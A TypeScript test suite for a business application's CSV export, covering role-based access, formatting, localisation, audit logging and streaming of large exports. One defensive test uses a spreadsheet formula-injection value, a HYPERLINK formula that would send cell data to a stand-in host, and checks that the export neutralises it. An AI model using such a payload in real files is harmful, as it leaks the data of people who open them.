import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { encode, insertSql } from '../../server/store/tables.ts';
import { insertedRow } from '../../shared/base/changes.ts';
import { nounNamed, nounNames } from '../../shared/catalogue.ts';
import { csvRecords } from '../../shared/exchange/csv/csv.read.ts';
import type { Row } from '../agreement/oracle.ts';
import { dialects } from '../databases.ts';
import type { Desk } from '../live/desk.ts';
import { CODES, type Code, Firm } from '../live/firm.ts';
import { type Goods, goods } from '../live/goods.ts';

const read = (text: string) => {
  const [head, ...rest] = [...csvRecords(text, ',')].map(({ cells }) => cells);
  const header = head ?? [];
  return { header, rows: rest.map((cells) => Object.fromEntries(header.map((name, at) => [name, cells[at] ?? '']))) };
};
const everyPage = async (desk: Desk, plural: string): Promise<Row[]> => {
  const rows: Row[] = [];
  let cursor: string | null = null;
  do {
    const { body } = await desk.list(plural, { limit: 50, cursor });
    const page = body as { rows: Row[]; next: string | null };
    rows.push(...page.rows);
    cursor = page.next;
  } while (cursor);
  return rows;
};

describe.each(dialects)('on %s', (dialect) => {
  let firm: Firm;
  let made: Goods;
  const desks = new Map<Code, Desk>();
  beforeAll(async () => {
    firm = await Firm.open(dialect);
    made = await goods(firm);
    for (const code of CODES) desks.set(code, await firm.signIn(code));
  });
  afterAll(() => firm.close());
  const desk = (code: Code): Desk => desks.get(code) as Desk;

  test('[EXP2] an export holds the rows and fields that the list answers to the same person, and no other', async () => {
    for (const code of CODES) {
      for (const noun of nounNames) {
        const { plural, unlogged } = nounNamed(noun);
        const answer = await desk(code).get(`/api/export/${plural}.csv`);
        const list = await desk(code).list(plural, { limit: 1 });
        if (unlogged || list.status !== 200) {
          expect([code, noun, answer.status]).toEqual([code, noun, 404]);
          continue;
        }
        // The log of exports grows by each of them.
        if (noun === 'export_log') continue;
        const rows = await everyPage(desk(code), plural);
        const file = read(answer.text);
        expect([code, noun, file.rows.map(({ id }) => id)]).toEqual([code, noun, rows.map(({ id }) => id)]);
        for (const [at, row] of rows.entries())
          for (const name of file.header)
            if (row[name] === undefined || row[name] === null)
              expect([code, noun, name, file.rows[at]?.[name]]).toEqual([code, noun, name, '']);
        const shown = new Set(rows.flatMap((row) => Object.keys(row)));
        for (const name of shown) expect(file.header).toContain(name);
      }
    }
  });

  test('[EXP2] a field that one never sees is refused like one that does not exist', async () => {
    const strange = await desk('op').get('/api/export/orders.csv?fields=number,nothing');
    const hidden = await desk('op').get('/api/export/orders.csv?fields=number,total');
    expect(strange).toMatchObject({ status: 400, body: { refused: 'filter.unknown_field', field: 'nothing' } });
    expect(hidden).toMatchObject({ status: 400, body: { refused: 'filter.unknown_field', field: 'total' } });
    for (const asked of ['sort=-total', `filter=${encodeURIComponent('{"field":"total","is":"gt","value":1}')}`])
      expect((await desk('op').get(`/api/export/orders.csv?${asked}`)).status).toBe(400);
    expect(read((await desk('boss').get('/api/export/orders.csv?fields=total,number,total')).text).header).toEqual([
      'total',
      'number',
    ]);
  });

  test('[EXP3] amounts are decimals of their currency, days and instants plain, words by language', async () => {
    const [order] = (await firm.rows('order')).filter(({ id }) => id === made.orders[0]) as [Row];
    const filter = encodeURIComponent(JSON.stringify({ field: 'id', is: 'eq', value: order.id }));
    const { rows } = read((await desk('boss').get(`/api/export/orders.csv?filter=${filter}`)).text);
    expect(rows[0]).toMatchObject({
      total: (Number(order.total) / 100).toFixed(2),
      rate: '1.00',
      promisedOn: order.promisedOn,
      status: 'confirmed',
      reviewed: String(order.reviewed),
    });
    expect(rows[0]?.submittedAt).toMatch(/^2026-03-02 \d\d:\d\d:\d\d$/);
    const lines = read((await desk('boss').get('/api/export/order_lines.csv?fields=id,unitPrice,net,discount')).text);
    const line = (await firm.rows('order_line')).find(({ discount }) => Number(discount) > 0) as Row;
    expect(lines.rows.find(({ id }) => id === line.id)).toMatchObject({
      discount: String(Number(line.discount) / 10_000),
      net: (Number(line.net) / 100).toFixed(2),
      unitPrice: (Number(line.unitPrice) / 1e6).toFixed(6).replace(/0{1,4}$/, ''),
    });
    const said = read(
      (await desk('boss').get(`/api/export/orders.csv?lang=zh-TW&fields=number,status,discount&filter=${filter}`)).text,
    );
    expect(said.header[0]).toMatch(/\p{Script=Han}/u);
    expect(said.header[2]).toContain('(%)');
    expect(Object.values(said.rows[0] ?? {})[1]).toMatch(/\p{Script=Han}/u);
  });

  test('[EXP1] what others wrote is never a formula, numbers stay numbers', async () => {
    const bad = '=HYPERLINK("http://x.example?"&A1,"see, here")';
    const id = await firm.company.system('customer.create', {
      name: bad,
      localName: '+1-2',
      region: '@x',
      country: 'TW',
      priceListId: made.list,
      sellerId: firm.idOf('rep'),
      notes: '-2+3\r\n"line", two',
      contacts: [{ name: 'Buyer', phone: '+886 2 5550' }],
    });
    const rows = read((await desk('boss').get('/api/export/customers.csv')).text).rows;
    expect(rows.find((row) => row.id === id.id)).toMatchObject({
      name: `'${bad}`,
      localName: "'+1-2",
      region: "'@x",
      notes: `'-2+3\r\n"line", two`.replace('\r\n', '\r\n'),
      phone: "'+886 2 5550",
    });
    const margins = read((await desk('exec').get('/api/export/orders.csv?fields=id,margin')).text).rows.map(
      ({ margin }) => margin ?? '',
    );
    for (const margin of margins) expect(margin).toMatch(/^(|-?\d+\.\d\d)$/);
  });

  test('[EXP1] a file says that it is UTF-8, ends its lines as RFC 4180 says, and is a download', async () => {
    const response = await fetch(`${firm.address}/api/export/warehouses.csv?fields=code`, {
      headers: { cookie: desk('boss').cookie },
    });
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(bytes.toString()).toBe('\uFEFFcode\r\nKHH\r\nTPE\r\n');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="warehouses 2026-03-02\.csv"/);
    expect(response.headers.get('cache-control')).toBe('no-store');
  });

  test('[EXP4] who took what is written down before the first byte leaves', async () => {
    const before = (await firm.rows('export_log')).length;
    await desk('rep').get('/api/export/orders.csv?fields=number&search=SO&lang=en');
    const log = await firm.rows('export_log');
    expect(log).toHaveLength(before + 1);
    expect(log.at(-1)).toMatchObject({
      personId: firm.idOf('rep'),
      on: 'orders',
      format: 'csv',
      fields: ['number'],
      query: '?fields=number&search=SO&lang=en',
    });
    await desk('op').get('/api/export/orders.csv?fields=total');
    expect(await firm.rows('export_log')).toHaveLength(before + 1);
    // One's own exports, and for those who may all of them.
    expect((await everyPage(desk('rep'), 'export_logs')).every(({ personId }) => personId === firm.idOf('rep'))).toBe(
      true,
    );
    expect(
      new Set((await everyPage(desk('admin'), 'export_logs')).map(({ personId }) => personId)).size,
    ).toBeGreaterThan(1);
  });
});

describe.each(dialects)('a long export on %s', (dialect) => {
  let firm: Firm;
  beforeAll(async () => {
    firm = await Firm.open(dialect);
    // Enough that no buffer between the two ends holds it all.
    const text = {
      name: 'x'.repeat(150),
      specification: 'y'.repeat(150),
      baseUnit: 'PC',
      status: 'active',
      taxCode: 'T',
    } as const;
    await firm.company.store.write(async (connection) => {
      for (let at = 0; at < 6_000; at++) {
        const row = insertedRow('product', `product-${at}`, { ...text, sku: `P-${String(at).padStart(5, '0')}` });
        await connection.run(insertSql('product'), encode('product', { ...row, version: 1 }, firm.company.seal));
      }
    });
  });
  afterAll(() => firm.close());

  const begun = async (cookie: string) => {
    const response = await fetch(`${firm.address}/api/export/products.csv`, { headers: { cookie } });
    expect(response.status).toBe(200);
    const reader = (response.body as ReadableStream<Uint8Array>).getReader();
    await reader.read();
    return reader;
  };
  const rest = async (reader: ReadableStreamDefaultReader<Uint8Array>): Promise<string> => {
    let text = '';
    for (;;) {
      const { value, done } = await reader.read();
      if (done) return text;
      text += new TextDecoder().decode(value);
    }
  };

  test('[EXP5] has every row once', async () => {
    const desk = await firm.signIn('boss');
    const { rows } = read((await desk.get('/api/export/products.csv?sort=-sku&fields=sku')).text);
    expect(new Set(rows.map(({ sku }) => sku)).size).toBe(6_000);
    expect(rows).toHaveLength(6_000);
    expect(rows[0]?.sku).toBe('P-05999');
  });

  test('[EXP5] breaks off when rights or the session end under it, and does not look whole', async () => {
    const desk = await firm.signIn('exec');
    const revoked = await begun(desk.cookie);
    const role = firm.roles.get('executive') as string;
    const rules = (await firm.rows('rule')).filter(({ roleId, on }) => roleId === role && on !== 'product');
    await firm.company.system('role.save', {
      id: role,
      rules: rules.map(({ on, may, scope, when, groups }) => ({ on, may, scope, when, groups })),
    });
    await expect(rest(revoked)).rejects.toThrow();
    const other = await firm.signIn('boss');
    const ended = await begun(other.cookie);
    await other.send('DELETE', '/api/session');
    await expect(rest(ended)).rejects.toThrow();
    expect(firm.faults).toEqual([]);
    expect((await firm.signIn('boss').then((again) => again.get('/api/export/products.csv?fields=sku'))).status).toBe(
      200,
    );
  });
});
